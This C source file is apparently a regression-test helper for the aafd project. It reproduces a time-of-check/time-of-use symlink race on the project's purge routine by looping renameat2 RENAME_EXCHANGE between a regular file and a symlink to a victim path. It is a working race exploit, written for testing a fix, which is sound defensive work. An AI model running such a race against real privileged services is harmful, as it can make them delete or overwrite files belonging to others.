/* The attack of issue 20 on the purge: as the aafd user, swap a regular file and a symbolic link to a victim
 * (renameat2 RENAME_EXCHANGE) in a loop, so that a purge that checks a name and then acts on it may be sent through
 * the link. Usage: swap FOLDER VICTIM SECONDS. Built static by scripts/test-systemd.sh for the booted container. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: swap FOLDER VICTIM SECONDS\n");
        return 64;
    }
    char a[4096], b[4096];
    snprintf(a, sizeof a, "%s/swap-a", argv[1]);
    snprintf(b, sizeof b, "%s/swap-b", argv[1]);
    time_t end = time(NULL) + atoi(argv[3]);
    char block[4096];
    memset(block, 'x', sizeof block);
    while (time(NULL) < end) {
        if (access(a, F_OK) != 0 && faccessat(AT_FDCWD, a, F_OK, AT_SYMLINK_NOFOLLOW) != 0) {
            int fd = open(a, O_WRONLY | O_CREAT | O_TRUNC, 0600);
            if (fd >= 0) {
                (void)!write(fd, block, sizeof block);
                close(fd);
            }
        }
        if (faccessat(AT_FDCWD, b, F_OK, AT_SYMLINK_NOFOLLOW) != 0) (void)!symlink(argv[2], b);
        renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
    }
    return 0;
}
